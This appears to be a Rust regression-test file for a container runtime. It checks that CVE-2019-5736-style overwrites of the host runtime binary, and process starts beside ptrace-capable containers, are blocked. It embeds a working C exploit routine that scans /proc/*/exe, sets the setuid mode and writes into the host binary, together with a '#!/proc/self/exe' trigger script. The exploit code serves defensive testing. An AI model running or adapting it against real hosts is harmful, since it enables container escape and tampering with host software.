//! CVE-2019-5736: somebody in a container gets hold of the program that starts processes there, and changes its file
//! on the host as soon as nobody executes it. Tried with a new process and with one that joins. Needs root.
#![allow(clippy::unwrap_used)] // A broken fixture is a failed test.

mod common;

use common::{compile, prepare, until_logged};
use testkit::{Outcome, Sandbox};

/// Opens the program file of every process that it sees, unless it is the image's own or empty. Tries to change its
/// mode at once, and to write to it until `/stop` exists. Prints what works.
const TAKE: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>
static int is(struct stat *a, struct stat *b) { return a->st_dev == b->st_dev && a->st_ino == b->st_ino; }
int main(int count, char **words) {
    /* As the interpreter of a script. */
    if (count > 1) return 3;
    setvbuf(stdout, 0, _IOLBF, 0);
    struct stat self, box, found;
    stat("/proc/self/exe", &self), stat("/bin/busybox", &box);
    int taken[64], number = 0;
    puts("watches");
    while (access("/stop", F_OK)) {
        char path[64];
        DIR *all = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(all));) {
            if (atoi(entry->d_name) <= 0) continue;
            snprintf(path, 64, "/proc/%d/exe", atoi(entry->d_name));
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) continue;
            fstat(fd, &found);
            if (number == 64 || !found.st_size || is(&found, &self) || is(&found, &box)) { close(fd); continue; }
            puts("opened");
            if (!fchmod(fd, 04777)) puts("changed its mode");
            taken[number++] = fd;
        }
        closedir(all);
        for (int i = 0; i < number; i++) {
            snprintf(path, 64, "/proc/self/fd/%d", taken[i]);
            int fd = open(path, O_WRONLY | O_APPEND);
            if (fd >= 0 && write(fd, "damaged", 7) == 7) puts("written");
            if (fd >= 0) close(taken[i]), close(fd), taken[i--] = taken[--number];
        }
    }
    puts("ends");
}
"#;

/// A sandbox with a copy of the program in `bin`, and a script `evil` for the interpreter `/proc/self/exe` in `tree`, a
/// root file system.
fn sandbox() -> Sandbox {
    let sandbox = Sandbox::with_busybox();
    compile(&sandbox, "take", TAKE);
    sandbox
        .sh("mkdir -p bin tree/bin tree/dev tree/proc tree/sys
            strip -o bin/ns-exec \"$(command -v ns-exec)\" && sha256sum < bin/ns-exec > sum
            cp /bin/busybox tree/bin && ln -s busybox tree/bin/sh
            printf '#!/proc/self/exe\n' > tree/bin/evil && chmod 755 tree/bin/evil")
        .ok();
    sandbox
}

/// Starts the container `web`, which watches, and has the script.
#[track_caller]
fn watch(sandbox: &Sandbox, flags: &str) {
    prepare(sandbox, "busybox");
    sandbox.sh("cp -p tree/bin/evil root/containers/web/rootfs/bin/").ok();
    sandbox.sh(&format!("bin/ns-exec -d {flags} -v /run/take:/take -- /take < ready.json > run.json")).ok();
    until_logged(sandbox, "watches");
}

/// What the container could do.
#[track_caller]
fn taken(sandbox: &Sandbox) -> String {
    sandbox.sh("touch root/containers/web/rootfs/stop").ok();
    until_logged(sandbox, "ends");
    sandbox.sh("sort -u \"$(container-ls --format {log} -- web)\"; unwind web > /dev/null").ok()
}

const NOTHING: &str = "ends\nwatches\n";

/// Asserts that the program, and every file that it had before an upgrade, is as it was.
#[track_caller]
fn assert_whole(sandbox: &Sandbox) {
    let whole = "for f in bin/*; do sha256sum < $f | cmp - sum && stat -c %a $f || exit 1; done | sort -u";
    assert_eq!(sandbox.sh(whole).ok(), "755\n");
}

/// The container's flags, and how a process is started for the script: a new one, which shares the container's processes,
/// and one that joins. Then the status and the error.
const WAYS: [(&str, &str, &str); 3] = [
    (
        "",
        "bin/ns-exec -n --id new --rootfs tree --pid container:web -- /bin/evil; s=$?; unwind -q new > /dev/null",
        "126 ns-exec: execute \"/bin/evil\": Exec format error\n",
    ),
    // The container's own program is the interpreter here.
    ("", "bin/ns-exec --join web -- /bin/evil; s=$?", "3 "),
    ("--cap-add SYS_PTRACE", "bin/ns-exec --join web -- /bin/evil; s=$?", "3 "),
];

/// Starts a process for the script some times, with `meanwhile` at the same time.
#[track_caller]
fn start(sandbox: &Sandbox, way: &str, expected: &str, meanwhile: &str) {
    std::fs::write(sandbox.directory().join("start"), format!("{way}\nprintf '%s ' $s")).unwrap();
    let script = format!(
        "for i in $(seq 12); do timeout 20 sh start > told 2>&1 & {meanwhile} wait $!; cat told; done"
    );
    // The error comes before the status.
    let (status, error) = expected.split_once(' ').unwrap();
    let once = format!("{error}{status} ");
    assert_eq!(sandbox.sh(&script).ok(), once.repeat(12), "{way}");
}

#[test]
fn the_program_of_the_host_cannot_be_had() {
    let sandbox = sandbox();
    for (flags, way, expected) in WAYS {
        watch(&sandbox, flags);
        start(&sandbox, way, expected, "");
        assert_eq!(taken(&sandbox), NOTHING, "{flags} {way}");
        assert_whole(&sandbox);
    }
}

/// Starts a container that sleeps.
fn asleep(sandbox: &Sandbox, id: &str, flags: &str) -> Outcome {
    sandbox.sh(&format!(
        "layer-apply --id {id} < busybox.json | union-mount | ns-exec -d {flags} -- sleep 1000 > {id}.json"
    ))
}

/// Why a process does not start beside the container `of`.
fn traced_by(of: &str) -> String {
    format!(
        "share processes with container \"{of}\": it has CAP_SYS_PTRACE, and could take over the new process before the command runs"
    )
}

const LEAVE_OUT: &str = "hint: start that container without --cap-add SYS_PTRACE";

/// A new process has the rights of the host's root until it has made its surroundings.
#[test]
fn no_process_is_born_among_those_that_may_trace_it() {
    let sandbox = Sandbox::with_busybox();
    let start = |id: &str, flags: &str| asleep(&sandbox, id, flags);
    let refused_by = |among: &str, of: &str| {
        let refused = start("new", &format!("--pid container:{among}")).exits(125);
        assert_eq!(refused.stderr, format!("ns-exec: {}\n{LEAVE_OUT}\n", traced_by(of)));
        sandbox.sh("unwind -q new > /dev/null").ok();
    };
    let refused = |of: &str| refused_by("web", of);
    start("web", "--cap-add SYS_PTRACE").ok();
    refused("web");
    // Nor in the namespace of the first by way of another.
    sandbox.sh("unwind -q web > /dev/null").ok();
    start("web", "").ok();
    start("beside", "--pid container:web").ok();
    start("debugger", "--cap-add SYS_PTRACE --pid container:web").ok();
    refused_by("beside", "debugger");
    sandbox.sh("unwind -q debugger > /dev/null").ok();
    start("debugger", "--cap-add SYS_PTRACE --pid container:beside").ok();
    refused_by("web", "debugger");
    sandbox.sh("unwind -q debugger beside > /dev/null").ok();
    sandbox.sh("unwind -q web > /dev/null").ok();
    // A debugger beside the container, and who comes after it.
    start("web", "").ok();
    start("debugger", "--cap-add SYS_PTRACE --pid container:web").ok();
    refused("debugger");
    sandbox.sh("unwind -q debugger > /dev/null").ok();
    start("new", "--pid container:web").ok();
    sandbox.sh("unwind -q new web > /dev/null").ok();
    // This one is the host's root already.
    start("web", "--privileged").ok();
    start("new", "--pid container:web").ok();
}

/// Nor together with one: who starts second waits until the first one's command runs.
#[test]
fn no_process_is_born_together_with_one_that_may_trace_it() {
    let sandbox = Sandbox::with_busybox();
    // The first process that the container sees is stopped before its command runs.
    let stops = "until kill -STOP -1 2> /dev/null; do :; done; echo stopped; exec sleep 1000";
    sandbox
        .sh(&format!(
            "layer-apply --id web < busybox.json | union-mount | ns-exec -d -- sh -c '{stops}' > web.json
            for id in new killed debugger; do layer-apply --id $id < busybox.json | union-mount > $id.json; done"
        ))
        .ok();
    let first = "setsid ns-exec -d --pid container:web -- sleep 1000 < new.json > new.out 2>&1 &";
    sandbox.sh(first).ok();
    until_logged(&sandbox, "stopped");
    let second = "ns-exec -d --cap-add SYS_PTRACE --pid container:web -- sleep 1000";
    sandbox.sh(&format!("timeout -s KILL 0.5 {second} < killed.json > killed.out")).exits(137);
    sandbox.sh("ns-exec --join web -- kill -CONT -1").ok();
    sandbox.sh(&format!("timeout 20 {second} < debugger.json > debugger.out")).ok();
    let locks = sandbox.sh("ls /run/stave/locks").ok();
    assert!(!locks.contains("pids"), "{locks}");
}

/// A start again is a start.
#[test]
fn no_process_is_born_again_among_those_that_may_trace_it() {
    let sandbox = Sandbox::with_busybox();
    asleep(&sandbox, "web", "").ok();
    asleep(&sandbox, "new", "--pid container:web").ok();
    sandbox.sh("container-stop -t 0 new").ok();
    asleep(&sandbox, "debugger", "--cap-add SYS_PTRACE --pid container:web").ok();
    let refused = sandbox.sh("container-start new").exits(1).stderr;
    assert!(refused.contains(&traced_by("debugger")) && refused.contains(LEAVE_OUT), "{refused}");
    let error = "jq -r .process.error /run/stave/new.json";
    assert_eq!(sandbox.sh(error).ok(), format!("{}\n", traced_by("debugger")));
    // The debugger itself starts again, and so do the others once it is gone.
    sandbox.sh("container-stop -t 0 debugger && container-start debugger && unwind -q debugger && container-start new").ok();
    // The restart policy waits for that too.
    sandbox.sh("unwind -q new > /dev/null").ok();
    asleep(&sandbox, "new", "--restart always --pid container:web").ok();
    asleep(&sandbox, "debugger", "--cap-add SYS_PTRACE --pid container:web").ok();
    sandbox.sh("kill -9 $(container-ls --format {pid} -- new)").ok();
    let until = |member: &str| {
        let found = format!("jq -e '.process.{member}' /run/stave/new.json > /dev/null");
        std::fs::write(sandbox.directory().join("until"), format!("until {found}; do sleep 0.02; done"))
            .unwrap();
        sandbox.sh("timeout 20 sh until").ok();
    };
    until("restarting");
    until("error");
    assert_eq!(sandbox.sh(error).ok(), format!("{}\n", traced_by("debugger")));
    sandbox.sh("unwind -q debugger > /dev/null").ok();
    until("finished == null");
}

#[test]
fn the_program_of_the_host_cannot_be_had_while_it_is_upgraded() {
    let sandbox = sandbox();
    // The new file has another inode, and nobody executes the old one for long.
    let upgrade = "ln bin/ns-exec bin/old.$i; cp bin/ns-exec bin/new && mv bin/new bin/ns-exec;";
    for (flags, way, expected) in WAYS {
        watch(&sandbox, flags);
        start(&sandbox, way, expected, upgrade);
        assert_eq!(taken(&sandbox), NOTHING, "{flags} {way}");
        assert_eq!(sandbox.sh("ls bin | wc -l").ok(), "13\n");
        assert_whole(&sandbox);
        sandbox.sh("rm bin/old.*").ok();
    }
}

/// A program that can be had is found and changed.
#[test]
fn the_watch_takes_what_it_can() {
    let sandbox = sandbox();
    watch(&sandbox, "");
    sandbox.sh("ns-exec --join web -- sh -c 'cp /bin/busybox /tmp/sleep && /tmp/sleep 1'").ok();
    let written = "until grep -q damaged root/containers/web/rootfs/tmp/sleep; do sleep 0.02; done";
    sandbox.sh(&format!("timeout 10 sh -c '{written}'")).ok();
    assert_eq!(taken(&sandbox), "changed its mode\nends\nopened\nwatches\nwritten\n");
}
